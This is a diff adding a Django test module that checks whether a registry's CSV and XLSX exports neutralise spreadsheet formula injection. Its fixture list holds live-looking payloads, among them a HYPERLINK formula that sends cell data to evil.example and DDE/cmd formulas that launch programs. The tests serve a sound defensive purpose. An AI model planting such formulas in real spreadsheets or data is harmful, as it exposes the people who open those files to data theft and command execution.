@@ -1,0 +1,98 @@
+"""Every CSV/XLSX export of the project neutralises spreadsheet formulas: no cell read back from the
+generated file starts with ``= + - @`` (or a tab / carriage return before them), and no XLSX cell is
+stored as a formula. The registry's CSV and XLSX exports are the project's only spreadsheet exports
+(the HSDS export is JSON, the resolution draft a .docx)."""
+
+import csv
+import io
+
+import openpyxl
+import pytest
+from django.urls import reverse
+
+from networks.exports import DANGEROUS_PREFIXES
+from tests.factories.networks import ActorFactory, ActorTypeFactory, MunicipalityFactory, TargetGroupFactory
+from tests.security.conftest import add_figure
+
+FORMULAS = [
+    "=1+1",
+    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klick\")",
+    "+49 2452 13-0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=cmd|' /C calc'!A0",
+    "\r=1+1",
+    "=cmd|' /C notepad'!'A1'",
+    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+]
+
+
+def _evil_actor(municipality, formula):
+    group = TargetGroupFactory(name=formula[:100])
+    return ActorFactory(
+        municipality=municipality,
+        actor_type=ActorTypeFactory(name=formula[:100]),
+        name=formula, traeger_name=formula, street=formula, city=formula, phone=formula[:30],
+        offer=formula, languages=formula[:200], accessibility=formula[:200], website="https://example.org/",
+        target_groups=[group],
+    )
+
+
+@pytest.fixture
+def evil_municipality(db):
+    municipality = MunicipalityFactory(name="=Stadt+Formel")
+    for formula in FORMULAS:
+        _evil_actor(municipality, formula)
+    return municipality
+
+
+def _dangerous(value) -> bool:
+    return isinstance(value, str) and value.startswith(DANGEROUS_PREFIXES)
+
+
+def test_csv_export_cells_are_neutralised(client, evil_municipality):
+    response = client.get(reverse("networks:export-csv", kwargs={"slug": evil_municipality.slug}))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
+    cells = [cell for row in rows[1:] for cell in row]
+    add_figure("formulas", "csv_cells_checked", len(cells))
+    assert len(rows) == len(FORMULAS) + 1
+    assert not [c for c in cells if _dangerous(c)]
+    # The text itself is kept, readable, behind the neutralising apostrophe.
+    assert "'=1+1" in cells and "'@SUM(A1:A9)" in cells
+
+
+def test_xlsx_export_cells_are_neutralised(client, evil_municipality):
+    response = client.get(reverse("networks:export-xlsx", kwargs={"slug": evil_municipality.slug}))
+    book = openpyxl.load_workbook(io.BytesIO(response.content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows(min_row=2) for cell in row]
+    add_figure("formulas", "xlsx_cells_checked", len(cells))
+    assert len(cells) >= len(FORMULAS) * 10
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert not [c.value for c in cells if _dangerous(c.value)]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_imported_formulas_are_neutralised_on_export(client, koordination_user, formula):
+    """A formula arriving through the import comes out harmless."""
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+
+    municipality = MunicipalityFactory()
+    municipality.coordinators.add(koordination_user)
+    actor_type = ActorTypeFactory(slug="beratung")
+    client.force_login(koordination_user)
+    cells = ["Beratungsstelle Formel", actor_type.slug, "öffentlich", formula]
+    text = "Name;Typ;Träger-Art;Angebot\n" + ";".join(csv_escape(v) for v in cells) + "\n"
+    upload = SimpleUploadedFile("partner.csv", text.encode("utf-8"))
+    client.post(reverse("networks:import"), {"municipality": municipality.pk, "file": upload})
+    token = client.session.get("networks_import", {}).get("token")
+    assert token, "the file should pass the import check"
+    client.post(reverse("networks:import"), {"step": "confirm", "token": token})
+    assert municipality.actors.count() == 1
+    response = client.get(reverse("networks:export-csv", kwargs={"slug": municipality.slug}))
+    cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";") for c in row]
+    assert not [c for c in cells if _dangerous(c)]
+
+
+def csv_escape(value: str) -> str:
+    return '"' + value.replace('"', '""') + '"'
